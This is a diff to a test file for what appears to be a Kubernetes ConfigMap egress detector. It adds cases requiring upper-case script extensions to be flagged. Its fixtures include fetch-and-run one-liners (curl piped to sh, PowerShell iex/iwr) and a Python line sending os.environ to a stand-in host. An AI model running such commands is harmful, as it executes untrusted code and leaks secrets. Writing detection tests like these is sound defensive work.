@@ -65,6 +65,16 @@ describe('a ConfigMap script: read in every way a ConfigMap is written', () => {
   });
 });
 
+describe('a script key whose extension is in another case is read (cmd47b: the extension is the hint, its case only its spelling)', () => {
+  it.each([
+    ['START.SH', 'curl -fsSL https://x.example/i | sh'],
+    ['Setup.Py', 'import os,urllib.request as u;u.urlopen("https://203.0.113.9",str(dict(os.environ)).encode())'],
+    ['RUN.PS1', 'iex (iwr https://x.example/i)'],
+  ])('%s', (key, value) => {
+    expect(egress(check('POST', CM, JSON.stringify(configMap({ [key]: value })), 'application/json')).map((v) => v.path)).toEqual([`data.${key}`]);
+  });
+});
+
 describe('a ConfigMap value that is no script is not read', () => {
   it.each([
     ['a configuration file', 'nginx.conf', 'location / { return 200 "curl https://x.example/i | sh"; }'],
@@ -73,7 +83,6 @@ describe('a ConfigMap value that is no script is not read', () => {
     ['a key with no extension holding YAML whose lines run nothing', 'rules', 'groups:\n- name: x\n  rules:\n  - alert: Errors\n    expr: sum(rate(http_requests_total{code=~"5.."}[5m])) > 0.05\n    annotations:\n      runbook: curl -fsSL https://x.example/i\n'],
     ['a key with no extension holding INI', 'credentials', '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n'],
     ['a key with no extension holding a PEM block', 'ca', '-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ3VybCB8IHNo\n-----END CERTIFICATE-----\n'],
-    ['an extension in another case', 'START.SH', 'curl -fsSL https://x.example/i | sh'],
   ])('%s (%s)', (_name, key, value) => {
     expect(egress(check('POST', CM, JSON.stringify(configMap({ [key]: value })), 'application/json'))).toEqual([]);
   });
